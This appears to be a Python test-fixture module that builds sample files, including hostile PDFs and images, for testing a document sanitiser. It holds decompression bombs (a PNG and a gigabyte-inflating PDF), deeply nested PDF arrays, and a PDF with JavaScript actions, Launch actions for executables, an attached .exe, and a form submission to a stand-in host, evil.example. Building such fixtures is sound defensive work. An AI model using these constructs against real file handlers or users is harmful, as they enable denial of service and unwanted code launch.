"""Files as people and their enemies send them, made here: none of them is kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

#: Exif's tag for the way up, and for the maker's name.
_WAY_UP, _MAKER = 0x0112, 0x010F


def jpeg(size: tuple[int, int] = (40, 30), *, mode: str = "RGB", way_up: int = 0, maker: str = "") -> bytes:
    """A photograph."""
    image, written = Image.new(mode, size), io.BytesIO()
    exif = Image.Exif()
    if way_up:
        exif[_WAY_UP] = way_up
    if maker:
        exif[_MAKER] = maker
    image.save(written, "JPEG", exif=exif, comment=f"comment {maker}" if maker else "")
    return written.getvalue()


def png(size: tuple[int, int] = (40, 30), *, mode: str = "RGB") -> bytes:
    """A drawing."""
    written = io.BytesIO()
    Image.new(mode, size).save(written, "PNG")
    return written.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A drawing of so many pixels in a few kilobytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    body = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def archive(*names: str) -> bytes:
    """A ZIP archive with these files."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        for name in names or ("a.txt",):
            packed.writestr(name, "x" * 30)
    return written.getvalue()


def pdf(pages: int = 1, text: str = "") -> bytes:
    """A document; ``text`` makes two of them differ."""
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page()
        if text:
            made.docinfo[Name.Title] = String(text)
        return _written(made)


def locked_pdf(user: str = "geheim") -> bytes:
    """A document that opens with a password alone; with an empty one it opens for everybody."""
    written = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.save(written, encryption=pikepdf.Encryption(user=user, owner="owner"))
    return written.getvalue()


def active_pdf() -> bytes:
    """A document that would do everything that a document can do, also where no program should look for it."""
    with pikepdf.new() as made:
        made.add_blank_page()
        made.attachments["boese.exe"] = b"MZ evil"
        page = made.pages[0].obj
        root = made.Root
        root.OpenAction = _action("JavaScript", JS=String("app.alert('open')"))
        root.AA = Dictionary(WC=_action("JavaScript", JS=String("app.alert('close')")))
        root.Names[Name.JavaScript] = Dictionary(
            Names=Array([String("start"), _action("JavaScript", JS=String("app.alert('named')"))])
        )
        root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp>app.alert('xfa')</xdp>"), Fields=Array())
        page.AA = Dictionary(O=_action("Launch", F=String("calc.exe")))
        page.PresSteps = Dictionary(Type=Name.NavNode, NA=_action("Launch", F=String("hidden.exe")))
        page.Annots = Array(
            [
                _link(_action("URI", URI=String("https://evil.example"))),
                _link(_action("GoToR", F=String("other.pdf"))),
                _link(_action("SubmitForm", F=String("https://evil.example/send"))),
                Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 9, 9], Movie=Dictionary(F=String("x.avi"))),
            ]
        )
        root.Hidden = Array([Array([Dictionary(Deep=_action("JavaScript", JS=String("app.alert('hidden')")))])])
        return _written(made)


def deep_pdf(depth: int = 100_000) -> bytes:
    """A document with lists in lists in lists."""
    return pdf().replace(b"/Type /Catalog", b"/X " + b"[" * depth + b"]" * depth + b" /Type /Catalog")


def swollen_pdf() -> bytes:
    """A document whose directory of objects grows to a gigabyte when it is unpacked."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
    head = b"%PDF-1.7\n"
    stream = (
        b"1 0 obj\n<< /Type /XRef /Size 100000000 /W [1 4 4] /Root 2 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(body)
    )
    return head + stream + body + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def crowded_pdf(objects: int) -> bytes:
    """A document with so many objects."""
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.Crowd = Array([made.make_indirect(Dictionary(N=number)) for number in range(objects)])
        return _written(made)


def pageless_pdf() -> bytes:
    """A document without a page."""
    with pikepdf.new() as made:
        return _written(made)


def streamed_pdf(content: bytes) -> bytes:
    """A document whose page draws what ``content`` says."""
    with pikepdf.new() as made:
        made.add_blank_page()
        made.pages[0].obj.Contents = Stream(made, content)
        return _written(made)


def _action(kind: str, **more: String) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{name}": value for name, value in more.items()}})


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)


def _written(made: pikepdf.Pdf) -> bytes:
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
